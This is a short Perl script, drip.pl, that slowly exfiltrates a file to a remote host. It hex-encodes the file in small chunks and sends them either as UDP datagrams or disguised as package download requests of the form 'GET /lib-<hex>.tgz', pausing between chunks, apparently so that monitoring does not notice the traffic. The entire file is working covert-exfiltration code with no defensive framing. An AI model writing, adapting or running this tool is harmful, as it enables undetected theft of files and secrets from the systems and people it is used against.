#!/usr/bin/perl
# drip.pl HOW FILE HOST:PORT SECONDS: a file that stays open all the time leaves a few bytes at a time, so many seconds apart.
#
# requests: each time as the name of a package that is asked for, by a connection of its own · datagrams: each time as a datagram, which
# is answered
require '/opt/agent/peer.pl';
my ($how, $path, $to, $seconds) = @ARGV;
open my $file, '<:raw', $path or exit 5;
my $link = $how eq 'datagrams' ? IO::Socket::INET->new(PeerAddr => $to, Proto => 'udp') : undef;
while (sysread $file, my $part, $how eq 'datagrams' ? 8 : 32) {
    my $text = unpack 'H*', $part;
    if ($link) {
        $link->send($text) or exit 9;
        $link->recv(my $answer, 16);
        exit 9 if $answer ne 'ok';
    } else {
        my $peer = reached($to);
        sent($peer, "GET /lib-$text.tgz\n");
        ended($peer);
    }
    select undef, undef, undef, $seconds;
}
